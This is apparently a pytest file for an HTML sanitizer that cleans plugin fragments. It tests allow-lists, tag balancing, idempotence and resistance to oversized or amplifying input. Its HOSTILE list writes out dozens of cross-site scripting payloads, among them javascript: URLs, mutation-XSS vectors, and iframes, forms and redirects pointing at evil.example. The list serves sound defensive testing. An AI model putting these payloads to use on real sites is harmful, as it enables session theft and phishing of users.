"""Fragments of plugins: whatever they are, no script runs and the page around them stays whole."""

from __future__ import annotations

import contextlib
import time
from html.parser import HTMLParser

import pytest

from wasm_plugins.fragments import (
    ATTRIBUTES,
    DROPPED_WHOLE,
    MOST_ELEMENTS,
    MOST_WRITTEN_BYTES,
    TAGS,
    URL_SCHEMES,
    FragmentTangled,
    html_fragment,
    text_fragment,
)

VOID = {"br", "hr", "wbr", "col"}


class Seen(HTMLParser):
    """What a page that holds a fragment is made of."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.open: list[str] = []
        self.others: list[str] = []
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open, f"{tag} ends nothing of the fragment's own"
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script",
    "<script>alert(1)",
    '<img src=x onerror="alert(1)">',
    "<img src='https://evil.example/count.gif'>",
    '<p onclick="alert(1)" onmouseover=alert(2)>x</p>',
    "<p/onpointerenter=alert(1)>x",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x" target="_blank" ping="https://evil.example">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf"><applet code=x></applet>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body { display: none }</style>",
    '<p style="position: fixed; inset: 0">x</p>',
    '<p class="modal" id="csrf" name="cookie" slot="x" part="y" is="z">x</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="password"><button formaction="x">ok</button></form>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<video src=x onerror=alert(1)><source onerror=alert(2)></video><audio autoplay src=x>",
    "<custom-element onfoo=1>x</custom-element>",
    "<!-- comment --><!DOCTYPE html><?php echo 1 ?><![CDATA[x]]>",
    "<!--><script>alert(1)</script-->",
    "</div></div></body></html><h1>after the page</h1>",
    "<div><p><b><i><ul><li>never closed",
    "<b><p></b></p><table><div>misnested</table>",
    "<td>no table</td><li>no list",
    "<plaintext>the rest",
    "<xmp><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    '<p title="',
    "<p title='>",
    "<p",
    "<",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
    "<a href='https://good.example' rel='opener' target='_top'>x</a>",
    "{{ secret }}{% load x %}",
    "\u202e<b>turned</b>",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_element_attribute_or_address_passes_that_is_not_allowed(hostile: str) -> None:
    seen = Seen(html_fragment(hostile))
    assert set(seen.tags) <= TAGS
    for tag, name, value in seen.attributes:
        if (tag, name) == ("a", "rel"):
            assert "noopener" in value.split()
            continue
        assert name in ATTRIBUTES.get(tag, frozenset()) | ATTRIBUTES["*"], (tag, name)
        if name == "href":
            scheme, colon, _ = value.partition(":")
            assert not colon or scheme in URL_SCHEMES or "/" in scheme
    assert seen.others == []


@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_is_open_at_its_end_is_closed_and_it_closes_nothing_that_is_not_its_own(hostile: str) -> None:
    assert Seen(html_fragment(hostile)).open == []


@pytest.mark.parametrize("hostile", HOSTILE)
def test_cleaning_what_is_clean_changes_nothing(hostile: str) -> None:
    once = html_fragment(hostile)
    assert html_fragment(once) == once


@pytest.mark.parametrize("hostile", HOSTILE)
def test_as_text_it_has_no_markup_at_all(hostile: str) -> None:
    seen = Seen(text_fragment(hostile))
    assert (seen.tags, seen.others) == ([], [])


def test_ordinary_markup_stays() -> None:
    fragment = (
        '<h3>Points</h3><p title="so far">You have <strong>7</strong> &amp; more.</p>'
        '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>'
        '<details open=""><summary>How</summary><ol start="2"><li>Buy</li></ol></details>'
    )
    assert html_fragment(fragment) == fragment


@pytest.mark.parametrize("address", ["/plugins/bonus/page", "https://example.org/", "mailto:a@example.org", "?page=2"])
def test_links_stay_and_give_nothing_to_where_they_lead(address: str) -> None:
    (href, rel) = [(name, value) for _, name, value in Seen(html_fragment(f'<a href="{address}">x</a>')).attributes]
    assert href == ("href", address)
    assert set(rel[1].split()) == {"nofollow", "noopener", "noreferrer", "ugc"}


def test_no_element_is_both_kept_and_dropped_whole() -> None:
    assert not TAGS & DROPPED_WHOLE


@pytest.mark.parametrize(
    "fragment",
    [
        "<b>" * 20_000,
        "<a href=/x>" * 5_000,
        "<table><tr><td>" * 4_000,
        "<b><p>" * 10_000,
        "</p>" * 16_000,
        "<details><summary>" * 3_500,
        "&" * 65_536,
        "<" * 65_536,
        "<p title='" + "x" * 65_000,
        "<!--" * 16_000,
    ],
    ids=[
        "nested",
        "links",
        "tables",
        "misnested",
        "ends",
        "details",
        "ampersands",
        "less-than",
        "attribute",
        "comments",
    ],
)
def test_the_largest_fragment_that_is_taken_is_cleaned_or_refused_within_a_second(fragment: str) -> None:
    started = time.monotonic()
    with contextlib.suppress(FragmentTangled):
        html_fragment(fragment[:65_536])
    assert time.monotonic() - started < 1


STYLES = "".join(f"<b title={number}>" for number in range(2_500))


@pytest.mark.parametrize(
    "fragment",
    [
        "<p>" + STYLES + "<p>x" * 7_000,
        "<p><i lang='" + "x" * 30_000 + "'>" + "<p>x" * 7_000,
        "<p>" + STYLES.replace("<b", "<FONT") + "<p>x" * 2_000,
        "<p>" + STYLES.replace("<b ", "<b/") + "<p>x" * 2_000,
        "<p>" + STYLES.replace("<b ", "<b\n") + "<p>x" * 2_000,
    ],
    ids=["many styles", "one long style", "in capitals", "with a slash", "on lines"],
)
def test_a_fragment_that_would_become_many_times_its_size_is_refused_before_it_is_parsed(fragment: str) -> None:
    with pytest.raises(FragmentTangled):
        html_fragment(fragment[:65_536])


def test_an_ordinary_table_with_a_link_in_each_row_is_shown() -> None:
    table = "<table>" + "<tr><td><a href=/p>tea</a><td><b>7</b>" * 100 + "</table>"
    assert html_fragment(table).count("<a ") == 100


@pytest.mark.parametrize("opened", ["<b title={}>", "<a href={}>", "<i lang={}>"])
def test_what_a_fragment_becomes_is_bounded(opened: str) -> None:
    largest = 0
    for styles in (3, 10, 50, 150, 450):
        start = "<p>" + "".join(opened.format(number) for number in range(styles))
        fragment = start + "<p>x" * min(8_000, MOST_ELEMENTS // styles - styles - 1, (65_536 - len(start)) // 4)
        with contextlib.suppress(FragmentTangled):
            largest = max(largest, len(html_fragment(fragment)))
    assert 0 < largest <= 2 * MOST_WRITTEN_BYTES
